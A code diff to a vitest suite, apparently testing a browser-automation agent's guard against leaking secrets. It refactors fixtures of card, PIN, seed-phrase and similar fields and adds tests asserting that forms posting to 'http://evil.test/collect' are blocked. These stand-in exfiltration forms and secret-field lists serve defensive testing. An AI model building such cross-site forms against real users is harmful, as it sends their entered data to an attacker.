@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { controls, neighbours, secretNames } from '../support/secret-fields.ts'
 import { openStage, type Stage } from './support/stage.ts'
 
 let stage: Stage
@@ -20,52 +21,15 @@ const cards = [
   'cc-type',
   'section-a billing cc-number',
 ]
-/** Whatever control a page has for them. */
-const secretNames = [
-  'Card number',
-  'CVC',
-  'Verification code',
-  'Kartennummer',
-  'Numéro de carte',
-  'Número de tarjeta',
-  'Código de segurança',
-  'Expiry date',
-  'PIN',
-  'TAN',
-  'Recovery code',
-  'IBAN',
-  'SSN',
-  'Account number',
-  'API key',
-  'Seed phrase',
-]
-const controls: ((name: string) => string)[] = [
-  (name) => `<label>${name} <input type=tel name=f value=${canary}></label>`,
-  (name) => `<input type=number aria-label="${name}" value=${digits}>`,
-  (name) => `<label for=x>${name}</label><textarea id=x name=f>${canary}</textarea>`,
-  (name) => `<input type=email placeholder="${name}" value=${canary}>`,
-  (name) => `<input type=search title="${name}" value=${canary}>`,
-  (name) => `<div contenteditable aria-label="${name}">${canary}</div>`,
-  (name) => `<p id=y>${name}</p><div role=textbox contenteditable aria-labelledby=y><b>${canary}</b></div>`,
-  (name) => `<label>${name} <select name=f><option>${canary}<option>Other</select></label>`,
-  (name) => `<div role=listbox aria-label="${name}" tabindex=0><div role=option>${canary}</div></div>`,
-  (name) =>
-    `<label>${name} <input list=z value=${canary}></label><datalist id=z><option>${canary}</datalist>`,
-]
-/** What has no label of its own is called what stands beside it. */
-const neighbours: ((name: string) => string)[] = [
-  (name) => `${name}: <input value=${canary}>`,
-  (name) => `<div><div>${name}</div><div><input type=tel value=${canary}></div></div>`,
-  (name) => `<table><tr><td>${name}</td><td><span><input value=${canary}></span></td></tr></table>`,
-  (name) => `<dl><dt>Name</dt><dd>Ada</dd><dt>${name}</dt><dd><textarea>${canary}</textarea></dd></dl>`,
-  (name) => `<div><input value=${canary}><span>${name}</span></div>`,
-  (name) => `<p>${name}</p><div contenteditable>${canary}</div>`,
-]
+const fill = (control: (typeof controls)[number] | undefined, name: string) =>
+  control?.(name, canary, digits, 'x') ?? ''
 const secretFields = [
-  ...neighbours.flatMap((beside) => ['Card number', 'Passwort', 'IBAN', '暗証番号'].map(beside)),
-  ...secretNames.map((name, index) => (controls[index % controls.length] as (typeof controls)[0])(name)),
-  ...controls.map((control) => control('Password')),
-  ...controls.map((control) => control('Security code')),
+  ...neighbours.flatMap((beside) =>
+    ['Card number', 'Passwort', 'IBAN', '暗証番号'].map((name) => fill(beside, name)),
+  ),
+  ...secretNames.map((name, index) => fill(controls[index % controls.length], name)),
+  ...controls.map((control) => fill(control, 'Password')),
+  ...controls.map((control) => fill(control, 'Security code')),
   `<select aria-label="Pay with"><option>${canary} •••• 4242</select>`,
   `<input type=password aria-label="Field password" value=${canary}>`,
   `<input type=hidden name=token value=${canary}>`,
@@ -179,6 +143,38 @@ describe('secrets', () => {
     expect(await run('type', 'D', '1111')).toMatchObject({ error: 'blocked_by_policy' })
     expect(await run('type', 'D', '1112')).toMatchObject({ success: true })
     expect(await tab.getByLabel('Note').inputValue()).toBe('4111.1111.1111.111')
+  })
+
+  it('does not send a form to another site', async () => {
+    const { snapshot, run, tab } =
+      await stage.show(`<form action="http://evil.test/collect" onsubmit="document.title='heard'"><input name=q aria-label=Search><button>Go</button></form>
+      <form action="/here"><input aria-label=Other><button formaction="http://evil.test/">Away</button><button>Stay</button></form>`)
+    await snapshot()
+    for (const [action, name, input] of [
+      ['click', 'Go'],
+      ['press_key', 'Search', 'Enter'],
+      ['submit', 'Search'],
+      ['click', 'Away'],
+    ] as const)
+      expect(await run(action, name, input)).toMatchObject({ success: false, error: 'cross_origin' })
+    expect(tab.url()).toContain(stage.origin)
+    expect(await tab.title()).not.toBe('heard')
+    await tab.route('**/here*', (route) => route.fulfill({ body: 'sent' }))
+    await run('click', 'Stay').catch(() => undefined)
+    await tab.waitForURL('**/here*')
+  })
+
+  it('tells no query of an address it has gone to', async () => {
+    const { snapshot, tab } = await stage.show('<p>Hello</p>')
+    await snapshot()
+    const told = await tab.evaluate(async () => {
+      const step = { action: 'navigate', elementId: -1, url: '#a?n=Ada', description: '' } as const
+      return [await window.hands.run({ ...step }), window.location.href]
+    })
+    expect(told).toMatchObject([
+      { success: true, url: expect.not.stringContaining('Ada') },
+      expect.stringContaining('Ada'),
+    ])
   })
 
   it('marks secret fields, and tells the marks of the owner', async () => {
